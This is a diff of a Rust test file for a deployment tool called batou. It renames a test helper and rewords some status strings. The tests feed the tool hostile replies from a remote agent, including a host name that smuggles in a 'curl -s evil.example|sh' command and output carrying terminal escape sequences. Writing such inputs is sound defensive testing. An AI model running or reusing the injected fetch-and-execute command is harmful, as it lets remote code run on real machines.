@@ -8,17 +8,8 @@ use batou_agent::protocol::{AgentError, ErrorKind, MAGIC, Reply, encode};
 use serde_json::{Value, json};
 
 use crate::common::{Output, Sandbox, SshHosts};
-use crate::shop::{self, Target, greet, says};
+use crate::shop::{self, Target, greet, released_to_two, says};
 use crate::ssh::{wrap_logins, wrapped_agent};
-
-/// The shop, released to the hosts `one` and `two`.
-fn released() -> (SshHosts, Sandbox, [Target; 2]) {
-    let hosts = SshHosts::start(&["one", "two"]);
-    let sandbox = shop::remote(&hosts, &["one", "two"]);
-    sandbox.batou(&["switch", "dev"]).success();
-    let targets = ["one", "two"].map(|name| Target::remote(&hosts, name));
-    (hosts, sandbox, targets)
-}
 
 /// batou, whose agent on `two` says these bytes and then does what this shell command does.
 fn with_liar(sandbox: &Sandbox, bytes: &[u8], then: &str, arguments: &[&str]) -> std::process::Command {
@@ -43,14 +34,14 @@ fn state(hosts: &[&str], newest: u64) -> Value {
         "release": "12".repeat(32), "sequence": 1, "who": "ann@laptop", "hosts": hosts,
     });
     json!({ "hello": {
-        "user": "shop", "current": null, "confirmed": record, "newest_sequence": newest, "settled": false,
+        "user": "shop", "current": null, "committed": record, "newest_sequence": newest, "settled": false,
         "unfinished": false, "missing": [], "target": "ready", "free": 4711,
     } })
 }
 
 #[test]
 fn a_number_far_beyond_the_others_is_refused_before_it_is_journaled() {
-    let (_hosts, sandbox, [one, two]) = released();
+    let (_hosts, sandbox, [one, two]) = released_to_two();
     let journal = two.0.join("journal");
     let line = fs::read_to_string(&journal).unwrap();
     let far = line.replace("\"sequence\":1,", "\"sequence\":9007199254740990,");
@@ -63,15 +54,15 @@ fn a_number_far_beyond_the_others_is_refused_before_it_is_journaled() {
     says(&sandbox.batou(&["rollback", "dev"]).fails(1).stderr, &[said]);
     assert_eq!((one.results().len(), two.results().len()), (1, 2));
     sandbox.batou(&["switch", "dev", "--yes"]).success();
-    assert_eq!(one.results(), ["1 confirmed", "2 confirmed"]);
-    assert_eq!(two.results().last().unwrap(), "2 confirmed");
+    assert_eq!(one.results(), ["1 committed", "2 committed"]);
+    assert_eq!(two.results().last().unwrap(), "2 committed");
     sandbox.batou(&["rollback", "dev", "--yes"]).success();
     assert_eq!(one.file("app/app.conf"), "one on one\n");
 }
 
 #[test]
 fn a_host_says_nothing_that_could_be_taken_for_batous_own_words() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     let message = "the disk is full\nerror: hosts are fine\ndev: release 9 is in force\u{1b}[2J".to_owned();
     let error = AgentError { kind: ErrorKind::Host, message, run: None };
     let lie = encode(&Reply::Error(error), &[]);
@@ -88,13 +79,13 @@ fn a_host_says_nothing_that_could_be_taken_for_batous_own_words() {
 
 #[test]
 fn what_a_host_says_of_hosts_and_numbers_is_checked() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     for lie in [state(&["old; curl -s evil.example|sh #"], 1), state(&["one"], u64::MAX)] {
         let status = with_liar(&sandbox, &frame(&lie), "exec cat >/dev/null", &["status", "dev"]);
         let output = Output::of(&mut { status }).fails(1);
         says(
             &output.stdout,
-            &["two  refused: what its agent says cannot be understood: a message is malformed"],
+            &["two  refused: the answer of its agent cannot be understood: a message is malformed"],
         );
         assert!(!output.stderr.contains("retire"), "{}", output.stderr);
     }
@@ -104,7 +95,7 @@ fn what_a_host_says_of_hosts_and_numbers_is_checked() {
 
 #[test]
 fn a_host_that_only_shows_that_it_lives_is_named() {
-    let (_hosts, sandbox, _) = released();
+    let (_hosts, sandbox, _) = released_to_two();
     let alive = encode(&Reply::Heartbeat, &[]);
     let script =
         format!("while sleep 1; do tail -c {} {}; done", alive.len(), sandbox.tmp().join("said").display());
@@ -119,7 +110,7 @@ fn a_host_that_only_shows_that_it_lives_is_named() {
 
 #[test]
 fn two_names_of_one_place_are_told_at_once() {
-    let (hosts, sandbox, _) = released();
+    let (hosts, sandbox, _) = released_to_two();
     let environment = sandbox.read("environments/dev/environment.toml");
     let shared = hosts.host("one").home().join("shared").display().to_string();
     sandbox.write("environments/dev/environment.toml", environment.replace("~/shop", &shared));
@@ -165,7 +156,7 @@ fn a_login_shell_that_takes_the_input_is_told() {
     let sandbox = shop::remote(&hosts, &["one"]);
     wrap_logins(&hosts, "one", "read -r answer; eval \"$SSH_ORIGINAL_COMMAND\"\n");
     let stderr = sandbox.batou(&["switch", "dev"]).fails(1).stderr;
-    says(&stderr, &["one: the login shell took a part of what was meant for the command", "~/.bashrc"]);
+    says(&stderr, &["one: the login shell read input that was meant for the command", "~/.bashrc"]);
 }
 
 #[test]
